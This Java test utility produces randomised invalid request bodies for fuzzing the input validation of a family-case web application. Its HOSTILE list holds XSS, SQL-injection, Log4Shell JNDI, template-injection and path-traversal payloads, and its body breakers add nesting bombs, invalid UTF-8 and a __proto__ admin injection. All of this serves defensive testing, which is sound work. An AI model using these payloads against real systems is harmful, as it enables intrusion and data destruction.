package org.familyjourney.web;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Function;

/**
 * A seeded source of bad inputs. Each input breaks at least one rule for certain (so nothing may be
 * stored), and may carry noise that is fine on its own: markup, SQL, far dates, emoji, in free text.
 * A body generator is a function of the random source; point it at a new endpoint by adding a target.
 */
final class BadInputs {

    /** What is sent: the bytes, their content type (null = none) and what is wrong with them. */
    record Body(byte[] bytes, String contentType, String flaw) {
    }

    static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "' OR '1'='1' --", "'; DROP TABLE referral; --", "\" onmouseover=\"alert(1)", "${jndi:ldap://x.example/a}",
            "{{7*7}}[[${7*7}]]", "../../../../etc/passwd", "\u202Eevil\u202C", "😀👪🏳️‍🌈", "null", "%00%27", "\\u0000",
            "Robert'); DROP TABLE family_case;--", "<svg/onload=alert(1)>", "javascript:alert(1)");
    static final List<String> FAR_DATES = List.of("0001-01-01", "9999-12-31", "+10000-01-01", "10000000000", "1e10",
            "2026-02-30", "0000-00-00", "-0001-01-01", "2026-13-01", "31/12/2026");
    static final List<String> FAR_INSTANTS = List.of("9999-12-31T23:59:59Z", "+10000-01-01T00:00:00Z", "1e10",
            "0001-01-01T00:00:00Z",
            "10000000000", "2026-02-30T10:00:00Z", "yesterday", "0000-00-00T00:00:00Z");
    static final List<String> HUGE_NUMBERS = List.of("1e400", "99999999999999999999999999", "-9223372036854775809",
            "NaN", "Infinity", "-0", "0x7fffffff", "1.7976931348623157E309");

    private static final ObjectMapper JSON = new ObjectMapper();

    private final Random random;

    BadInputs(Random random) {
        this.random = random;
    }

    <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    boolean chance(double p) {
        return random.nextDouble() < p;
    }

    /** A whole number from {@code from} (inclusive) to {@code to} (exclusive; at least one choice). */
    int between(int from, int to) {
        return from + random.nextInt(Math.max(1, to - from));
    }

    String hostile() {
        return pick(HOSTILE);
    }

    /** Longer than the field's limit: mostly a little, now and then megabytes. */
    String oversized(int max) {
        int length = chance(0.01) ? 1_000_000 + random.nextInt(1_500_000) : max + 1 + random.nextInt(Math.max(10, max * 3));
        return "A".repeat(length);
    }

    /** A value of the wrong JSON type for a text field (numbers are left out: JSON readers turn them into text). */
    Object notText() {
        return pick(List.of(Map.of("a", 1), List.of("x"), List.of(), Map.of(), List.of(List.of(Map.of()))));
    }

    /** A value of the wrong JSON type for an object or list field. */
    Object notObject() {
        return pick(List.of("text", 42, true, 1.5e300, "", List.of("x", 1)));
    }

    String withControlCharacters(String text) {
        return text + pick(List.of("\u0000", "\u0007", "\u001b[31m", "\u0008"));
    }

    /** Sets a dotted path (children[0].name) in nested maps, creating maps as needed. */
    @SuppressWarnings("unchecked")
    static void put(Map<String, Object> root, String path, Object value, boolean remove) {
        String[] parts = path.split("\\.");
        Object node = root;
        for (int i = 0; i < parts.length - 1; i++) {
            node = step(node, parts[i]);
            if (!(node instanceof Map) && !(node instanceof List)) {
                return;
            }
        }
        String last = parts[parts.length - 1];
        if (node instanceof Map<?, ?> map) {
            if (remove) {
                ((Map<String, Object>) map).remove(last);
            } else {
                ((Map<String, Object>) map).put(last, value);
            }
        }
    }

    @SuppressWarnings("unchecked")
    private static Object step(Object node, String part) {
        int bracket = part.indexOf('[');
        String name = bracket < 0 ? part : part.substring(0, bracket);
        Object next = node instanceof Map<?, ?> map ? map.get(name) : null;
        if (bracket >= 0 && next instanceof List<?> list) {
            int index = Integer.parseInt(part.substring(bracket + 1, part.length() - 1));
            return index < list.size() ? list.get(index) : null;
        }
        return next;
    }

    /** Deep copy of plain JSON-like maps and lists, so each input mutates its own copy. */
    @SuppressWarnings("unchecked")
    static Object copy(Object value) {
        if (value instanceof Map<?, ?> map) {
            Map<String, Object> copy = new LinkedHashMap<>();
            map.forEach((k, v) -> copy.put((String) k, copy(v)));
            return copy;
        }
        if (value instanceof List<?> list) {
            List<Object> copy = new ArrayList<>();
            list.forEach(v -> copy.add(copy(v)));
            return copy;
        }
        return value;
    }

    static Body json(Object value, String flaw) {
        try {
            return new Body(JSON.writeValueAsBytes(value), "application/json", flaw);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /**
     * Breaks the whole body rather than a field: invalid UTF-8, nesting bombs, cut-off JSON, wrong
     * content types, bodies that are not objects. {@code good} is an otherwise valid body.
     */
    Body brokenBody(Object good) {
        byte[] valid = json(good, "").bytes();
        String text = new String(valid, StandardCharsets.UTF_8);
        return switch (random.nextInt(9)) {
            case 0 -> new Body(invalidUtf8(valid), "application/json", "invalid UTF-8 bytes");
            case 1 -> {
                int depth = 1_500 + random.nextInt(60_000);
                yield new Body(("[".repeat(depth) + "]".repeat(depth)).getBytes(StandardCharsets.US_ASCII), "application/json",
                        "arrays nested " + depth + " deep");
            }
            case 2 -> {
                int depth = 1_500 + random.nextInt(20_000);
                yield new Body(("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)).getBytes(StandardCharsets.US_ASCII),
                        "application/json", "objects nested " + depth + " deep");
            }
            case 3 -> new Body(text.substring(0, random.nextInt(Math.max(1, text.length() - 1))).getBytes(StandardCharsets.UTF_8),
                    "application/json", "cut-off JSON");
            case 4 -> new Body(valid, pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "application/json; charset=ebcdic")), "wrong content type");
            case 5 -> new Body(valid, null, "no content type");
            case 6 -> new Body(pick(List.of("", "null", "[]", "42", "\"text\"", "true", "[{}]")).getBytes(StandardCharsets.UTF_8),
                    "application/json", "not a JSON object");
            case 7 -> new Body(("{\"x\":" + pick(HUGE_NUMBERS) + ",").getBytes(StandardCharsets.UTF_8), "application/json",
                    "huge number, then cut off");
            default -> new Body(text.replaceFirst("\\{", "{\"__proto__\":{\"admin\":true},").replaceFirst(":", "::")
                    .getBytes(StandardCharsets.UTF_8), "application/json", "syntax error");
        };
    }

    private byte[] invalidUtf8(byte[] valid) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int at = 1 + random.nextInt(Math.max(1, valid.length - 2));
        out.write(valid, 0, at);
        byte[] bad = pick(List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xE2, (byte) 0x82},
                new byte[] {(byte) 0xF0, (byte) 0x28, (byte) 0x8C, (byte) 0x28}, new byte[] {(byte) 0xC0, (byte) 0xAF}));
        out.write(bad, 0, bad.length);
        out.write(valid, at, valid.length - at);
        return out.toByteArray();
    }

    /** One of the field-level breakers, each sure to be refused, applied to a copy of a valid map. */
    record Breaker(String flaw, Function<BadInputs, Object> value, boolean remove, String path) {
    }

    Body breakField(Map<String, Object> good, List<Breaker> breakers, Map<String, Function<BadInputs, Object>> noise) {
        @SuppressWarnings("unchecked")
        Map<String, Object> input = (Map<String, Object>) copy(good);
        noise.forEach((path, value) -> {
            if (chance(0.5)) {
                put(input, path, value.apply(this), false);
            }
        });
        Breaker breaker = pick(breakers);
        put(input, breaker.path(), breaker.remove() ? null : breaker.value().apply(this), breaker.remove());
        if (chance(0.2)) {
            Breaker second = pick(breakers);
            put(input, second.path(), second.remove() ? null : second.value().apply(this), second.remove());
        }
        return json(input, breaker.flaw() + " at " + breaker.path());
    }

    static Breaker missing(String path) {
        return new Breaker("missing", b -> null, true, path);
    }

    static Breaker set(String flaw, String path, Function<BadInputs, Object> value) {
        return new Breaker(flaw, value, false, path);
    }
}
